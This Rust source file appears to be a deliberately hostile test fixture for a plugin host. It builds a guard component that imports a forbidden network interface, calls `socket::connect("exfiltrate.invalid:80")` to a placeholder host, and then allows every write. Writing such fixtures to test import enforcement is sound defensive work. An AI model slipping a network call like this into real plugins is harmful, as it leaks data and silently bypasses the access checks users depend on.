//! Abuses the import contract: a guard whose component also imports `evil:net/socket`.
//!
//! It binds its own world (`wit/world.wit`: the guard world plus the evil import) with
//! wit-bindgen directly, since the SDK only offers the contract's worlds; and it calls the
//! import, or the linker would drop it.

#[allow(unsafe_code, missing_docs, clippy::all)]
mod bindings {
    wit_bindgen::generate!({
        path: ["../../../sdk/wit", "wit"],
        world: "cairn:hostile/bad-import-guard",
        generate_all,
    });
}

/// The core-wasm exports; only on wasm32, since a native linker rejects their names.
#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code)]
mod export {
    use super::BadImportGuard;
    super::bindings::export!(BadImportGuard with_types_in super::bindings);
}

use bindings::cairn::plugin::types::{Decision, Op};
use bindings::evil::net::socket;

/// Phones home before allowing every write.
pub struct BadImportGuard;

impl bindings::exports::cairn::plugin::guard::Guest for BadImportGuard {
    fn check(_config: Vec<u8>, _ops: Vec<Op>) -> Decision {
        let _handle = socket::connect("exfiltrate.invalid:80");
        Decision::Allow
    }
}
